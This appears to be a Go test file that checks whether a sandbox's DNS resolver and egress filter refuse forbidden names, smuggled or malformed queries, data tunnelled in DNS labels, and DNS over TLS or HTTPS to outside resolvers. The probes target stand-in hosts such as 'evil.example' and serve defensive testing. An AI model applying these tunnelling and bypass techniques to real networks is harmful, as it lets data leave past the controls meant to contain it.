package main

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"net"
	"net/http"
	"strings"
	"time"
)

// resolver is the address of every box's resolver.
const resolver = "198.18.0.1:53"

// timeLimit is for answers that come at once, on an emulated and busy machine.
const timeLimit = time.Minute

// names queries names that are not allowed, and record types by which an allowed name could carry
// more than an address.
func names() {
	types := map[string]uint16{"A": 1, "AAAA": 28, "TXT": 16, "NULL": 10, "ANY": 255, "AXFR": 252}
	for _, name := range []string{
		"secret.evil.example", "secret.a.example", "secreta.example", "a.example.secret", "b\xc3\xbccher.secret.example", "a\x00secret.example",
		"secret\r\n.example", "secret%2e.example", "169.254.169.254", strings.Repeat("secret", 10) + ".evil.example", "secret..a.example",
		"SECRET.A.EXAMPLE", "\u0430.example", "xn--80a.example",
	} {
		for t, n := range types {
			for _, network := range []string{"udp", "tcp"} {
				report("dns", fmt.Sprint(network, " ", t, " ", name), records(resolve(network, question(name, n))))
			}
		}
	}
	for t, n := range types {
		if t != "A" && t != "AAAA" {
			report("dns", t+" a.example", records(resolve("udp", question("a.example", n))))
		}
	}
	for _, network := range []string{"udp", "tcp"} {
		got := resolve(network, []byte("GET /secret HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
		effect := ""
		if strings.Contains(string(got), "HTTP") {
			effect = string(got)
		}
		report("dns", network+" what is no question", effect)
	}
}

// labels sends data in the labels of names below an allowed wildcard. The box permits a burst of
// bytes and then a rate in bytes per second, and refuses each name beyond that. The outside answers
// every name below names.example, so only the box's own limit can refuse one.
func labels() {
	const all, burst, rate = 400, 16 << 10, 64
	begun, sent := time.Now(), 0
	for i := range all {
		name := fmt.Sprintf("secret%044d.names.example", i)
		answer := resolve("udp", question(name, 1))
		if len(answer) == 0 {
			continue // it came too late
		}
		if records(answer) == "" {
			report("dns-rate", name, "")
		} else if sent += len(name); sent > burst+rate*int(time.Since(begun).Seconds()+1) {
			report("dns-rate", name, fmt.Sprint(sent, " bytes in names after ", time.Since(begun)))
		}
	}
}

// question returns a query for one name. It is encoded by hand, because a library would refuse
// these names.
func question(name string, kind uint16) []byte {
	b := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(binary.BigEndian.AppendUint16(append(b, 0), kind), 0, 1)
}

// resolve sends a query and returns the answer as in a datagram, without the length that precedes it
// over TCP. It returns nil if there is none within a second.
func resolve(network string, q []byte) []byte {
	c, err := net.Dial(network, resolver)
	if err != nil {
		return nil
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(time.Second))
	b := make([]byte, 4096)
	if network == "tcp" {
		q = append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)
	}
	_, _ = c.Write(q)
	n, _ := c.Read(b)
	if network == "tcp" {
		return b[min(n, 2):n]
	}
	return b[:n]
}

// records returns the answer if it has a record, and "" otherwise.
func records(b []byte) string {
	if len(b) < 12 || binary.BigEndian.Uint16(b[6:]) == 0 {
		return ""
	}
	return string(b)
}

// resolvers queries other resolvers by TLS and by HTTPS: public ones, one with a name, and allowed
// sites that are not resolvers. For the latter, the connection is allowed, but the site must answer
// that it has no such page.
func resolvers() {
	for _, to := range []string{"1.1.1.1", "8.8.8.8", "198.18.0.1", "a.example", "b.example", "dns.example"} {
		kind := "flow"
		if to == "dns.example" {
			kind = "dns"
		}
		effect := ""
		if c, err := dial(to + ":853"); err == nil {
			effect = "a connection"
			c.Close()
		}
		report(kind, "DNS over TLS of "+to, effect)
	}
	q := question("secret.evil.example", 16)
	for url, kind := range map[string]string{"https://1.1.1.1": "flow", "https://8.8.8.8": "flow", "https://dns.example": "dns", "http://b.example": "none", "https://a.example": "none"} {
		for _, method := range []string{http.MethodGet, http.MethodPost} {
			report(kind, "DNS over HTTPS of "+url+", "+method, queryHTTPS(method, url+"/dns-query", q, kind == "none"))
		}
	}
}

// queryHTTPS sends a query in an HTTP request and returns the status, or "" if it was refused. With
// site, url is on an allowed site that is not a resolver, which must answer 404.
func queryHTTPS(method, url string, q []byte, site bool) string {
	body := bytes.NewReader(q)
	if method == http.MethodGet {
		url, body = url+"?dns="+base64.RawURLEncoding.EncodeToString(q), bytes.NewReader(nil)
	}
	req, err := http.NewRequest(method, url, body)
	if err != nil {
		panic(err)
	}
	req.Header.Set("Content-Type", "application/dns-message")
	client := &http.Client{Timeout: timeLimit}
	res, err := client.Do(req)
	switch {
	case err != nil && site:
		return err.Error()
	case err != nil:
		return ""
	}
	defer res.Body.Close()
	if site && res.StatusCode == http.StatusNotFound {
		return ""
	}
	return res.Status
}
